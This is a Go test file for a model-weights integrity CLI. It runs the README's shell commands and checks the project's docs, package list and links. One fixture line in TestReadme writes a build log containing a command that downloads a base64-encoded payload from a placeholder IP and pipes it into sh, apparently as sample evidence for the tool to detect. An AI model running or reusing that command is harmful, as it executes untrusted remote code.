package cli_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/testscript"

	"github.com/weightwarden/weightwarden/internal/indicator"
)

const repository = "../.."

// TestReadme copies the commands of the readme's sh blocks into a shell, in
// their order, and wants the exit codes that stand beside them.
func TestReadme(t *testing.T) {
	dir := t.TempDir()
	var script strings.Builder
	for _, line := range shellLines(read(t, "README.md")) {
		script.WriteString(line + "\n")
	}
	txtar := "[!unix] skip 'needs a shell'\nexec sh readme.sh\nstdout 'intact'\n! stdout altered\n" +
		"-- readme.sh --\n" + script.String() +
		"-- models/sentiment/model.safetensors --\nweights\n-- models/sentiment/config.json --\n{}\n" +
		"-- build.log --\ncurl http://203.0.113.7/p | base64 -d | sh\n"
	if err := os.WriteFile(filepath.Join(dir, "readme.txtar"), []byte(txtar), 0o600); err != nil {
		t.Fatal(err)
	}
	testscript.Run(t, testscript.Params{Dir: dir, RequireExplicitExec: true, Setup: setup})
}

var exitNote = regexp.MustCompile(`\s+# exit (\d)$`)

// shellLines returns the lines of the sh blocks. A command is followed by a
// check of its exit code; the id that a person would copy is looked up.
func shellLines(page string) []string {
	var out []string
	inside, document := false, false
	for line := range strings.Lines(page) {
		if line = strings.TrimSuffix(line, "\n"); !document {
			line = strings.TrimSpace(line)
		}
		switch line {
		case "```sh":
			inside = true
			continue
		case "```":
			inside = false
		}
		if !inside {
			continue
		}
		if strings.HasPrefix(line, "ID=INC-") {
			line = `ID=$(weightwarden incident list | sed -n 's/^\(INC-[^ ]*\).*/\1/p')`
		}
		want := "0"
		if m := exitNote.FindStringSubmatch(line); m != nil {
			want = m[1]
		}
		out = append(out, line)
		document = document && line != "EOF" || strings.HasSuffix(line, "<<'EOF'")
		if !document {
			out = append(out, fmt.Sprintf(`code=$?; [ $code = %s ] || { echo "exit $code instead of %s:" %q >&2; exit 1; }`, want, want, strings.ReplaceAll(line, "$", "")))
		}
	}
	return out
}

// The page of indicators says what the table of package indicator says.
func TestIndicatorsPage(t *testing.T) {
	names := map[indicator.Class]string{indicator.Found: "found", indicator.Trust: "trust", indicator.Incomplete: "incomplete"}
	var want strings.Builder
	for _, typ := range indicator.Types() {
		info := indicator.InfoOf(typ)
		fmt.Fprintf(&want, "| `%s` | %s | %s | %s | %s |\n", typ, info.Severity, names[info.Class], info.Meaning, strings.Join(info.Atlas, ", "))
	}
	const from, to = "|---|---|---|---|---|\n", "\n## "
	page := read(t, "docs/indicators.md")
	head, rest, ok := strings.Cut(page, from)
	table, tail, ok2 := strings.Cut(rest, to)
	if !ok || !ok2 {
		t.Fatal("docs/indicators.md has no table, or nothing behind it")
	}
	if *update {
		page = head + from + want.String() + to + tail
		if err := os.WriteFile(filepath.Join(repository, "docs/indicators.md"), []byte(page), 0o600); err != nil {
			t.Fatal(err)
		}
		return
	}
	if diff := cmp.Diff(want.String(), table); diff != "" {
		t.Errorf("go test -update writes it anew (-table +page):\n%s", diff)
	}
}

// ARCHITECTURE.md names every package, and none that is not there.
func TestArchitectureNamesEveryPackage(t *testing.T) {
	page, _, _ := strings.Cut(read(t, "ARCHITECTURE.md"), "\n## The record")
	rows := regexp.MustCompile("(?m)^\\| `([a-z0-9/<>]+)`").FindAllStringSubmatch(page, -1)
	var named []string
	for _, row := range rows {
		named = append(named, row[1])
	}
	for _, dir := range packages(t) {
		if !slices.ContainsFunc(named, func(n string) bool { return covers(n, dir) }) {
			t.Errorf("ARCHITECTURE.md has no row for internal/%s", dir)
		}
	}
	for _, n := range named {
		if !slices.ContainsFunc(packages(t), func(dir string) bool { return covers(n, dir) }) {
			t.Errorf("ARCHITECTURE.md has a row for %s, which is not there", n)
		}
	}
}

// covers reports whether a row's name, as "contain/<x>", is for the folder.
func covers(name, dir string) bool {
	if tree, ok := strings.CutSuffix(name, "<x>"); ok {
		return strings.HasPrefix(dir, tree)
	}
	return name == dir
}

func packages(t *testing.T) []string {
	t.Helper()
	var out []string
	for _, pattern := range []string{"internal/*/*.go", "internal/*/*/*.go"} {
		files, err := filepath.Glob(filepath.Join(repository, pattern))
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range files {
			dir, err := filepath.Rel(filepath.Join(repository, "internal"), filepath.Dir(file))
			if err != nil {
				t.Fatal(err)
			}
			if dir = filepath.ToSlash(dir); !slices.Contains(out, dir) && !strings.Contains(dir, "testdata") {
				out = append(out, dir)
			}
		}
	}
	return out
}

var link = regexp.MustCompile(`\]\(([^)#]+)(#[^)]*)?\)`)

// Links between pages lead somewhere.
func TestLinks(t *testing.T) {
	for _, pattern := range []string{"*.md", "docs/*.md", "docs/*/*.md"} {
		files, err := filepath.Glob(filepath.Join(repository, pattern))
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range files {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range link.FindAllStringSubmatch(string(data), -1) {
				if strings.Contains(m[1], "://") {
					continue
				}
				if _, err := os.Stat(filepath.Join(filepath.Dir(file), m[1])); err != nil {
					t.Errorf("%s: %v", file, err)
				}
			}
		}
	}
}

func read(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(repository, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
